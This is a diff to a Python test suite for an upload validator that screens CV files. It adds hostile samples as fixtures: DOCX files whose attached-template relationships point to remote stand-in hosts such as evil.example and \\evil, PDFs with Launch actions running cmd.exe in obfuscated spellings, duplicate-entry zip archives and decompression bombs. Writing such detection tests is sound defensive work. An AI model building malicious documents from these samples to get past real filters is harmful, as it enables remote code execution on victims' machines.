@@ -4,6 +4,7 @@ import io
 import time
 import tracemalloc
 import uuid
+import warnings
 import zipfile
 import zlib
 
@@ -65,6 +66,15 @@ def broken(parts: dict[str, bytes], name: str) -> bytes:
     return bytes(content)
 
 
+def twice(name: str, times: int) -> bytes:
+    """An archive with many parts of one name, of which the last is large."""
+    out = io.BytesIO()
+    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as found:
+        for content in [b"<x/>"] * times + [b"<x>" + b"<a/>" * 90_000 + b"</x>"]:
+            found.writestr(name, content)
+    return out.getvalue()
+
+
 BOMB = b"0" * 64 * 2**20
 DOCX = {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}
 ODT = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
@@ -81,10 +91,21 @@ TEMPLATE = (
     b'<Relationships><Relationship Id="rId1" Target="https://evil.example/t.dotm" TargetMode="External" '
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
 )
+WORDS_OWN = TEMPLATE.replace(
+    b"https://evil.example/t.dotm", b"file:///C:\\\\Users\\\\Lea\\\\Templates\\\\Polished%20resume,%20by%20MOO.dotx"
+)
+"""As Word writes it of its own templates."""
 LINK = (
     b'<Relationships><Relationship Id="rId1" Target="https://example.org/" TargetMode="External" '
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
 )
+
+
+REMOTE = ("file://evil/t.dotm", "file:////evil/t.dotm", "FILE:///%2fevil/t.dotm", "//evil/t", r"\\evil\t.dotm")
+
+
+def template_at(where: str) -> bytes:
+    return TEMPLATE.replace(b"https://evil.example/t.dotm", where.encode())
 
 
 ENTITIES = TEMPLATE.replace(b"External", b"&#69;xternal").replace(b"/attachedTemplate", b"&#47;attachedTemplate")
@@ -119,6 +140,9 @@ def test_a_pdf_is_gone_through_once_whatever_it_says(piece: bytes) -> None:
     assert time.process_time() - began < 10
 
 
+SPELLED = object_stream(b"<< /S/Launch >>").replace(b"ObjStm", b"Obj#53tm")
+
+
 class Shelf:
     def __init__(self) -> None:
         self.kept: dict[str, bytes] = {}
@@ -134,9 +158,15 @@ class Shelf:
     ("upload", "media_type"),
     [
         (PDF, "application/pdf"),
+        (
+            Upload("cv.pdf", pdf(b"/URI (https://example.org/Launch) (CV Product/Launch)")),
+            "application/pdf",
+        ),
         (Upload("form.pdf", pdf(object_stream(b"<< /S /JavaScript /JS (AFNumber_Format) >>"))), "application/pdf"),
         (
-            Upload("Mon CV.docx", archive(DOCX | {"word/_rels/document.xml.rels": LINK})),
+            Upload(
+                "Mon CV.docx", archive(DOCX | {"word/_rels/document.xml.rels": LINK, "word/_rels/s.rels": WORDS_OWN})
+            ),
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
         ),
         (Upload("cv.odt", archive(ODT)), "application/vnd.oasis.opendocument.text"),
@@ -175,9 +205,24 @@ def test_what_it_is_decides_not_what_it_is_called(upload: Upload, media_type: st
             "document.fetches",
         ),
         (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/x.rels": ENTITIES})), "document.fetches"),
+        (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/X.RELS": TEMPLATE})), "document.fetches"),
+        *(
+            (
+                DocumentKind.CV,
+                Upload("cv.docx", archive(DOCX | {"word/x.rels": template_at(where)})),
+                "document.fetches",
+            )
+            for where in REMOTE
+        ),
+        (DocumentKind.CV, Upload("cv.docx", twice("a.rels", 400)), "document.broken"),
         (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/x.rels": DEFINES})), "document.broken"),
         (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/x.rels": b" " * 3 * 2**20})), "document.bomb"),
         (DocumentKind.CV, Upload("cv.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")), "document.starts"),  # S17
+        (
+            DocumentKind.CV,
+            Upload("cv.pdf", pdf(SPELLED)),
+            "document.starts",
+        ),
         (DocumentKind.CV, Upload("cv.pdf", pdf(b"<< /S /L#61unch /F (cmd.exe) >>")), "document.starts"),
         (DocumentKind.CV, Upload("cv.pdf", pdf(object_stream(b"<< /S /Launch /F (cmd.exe) >>"))), "document.starts"),
         (DocumentKind.CV, Upload("cv.pdf", pdf(object_stream(b" " * 9 * 2**20))), "document.starts"),
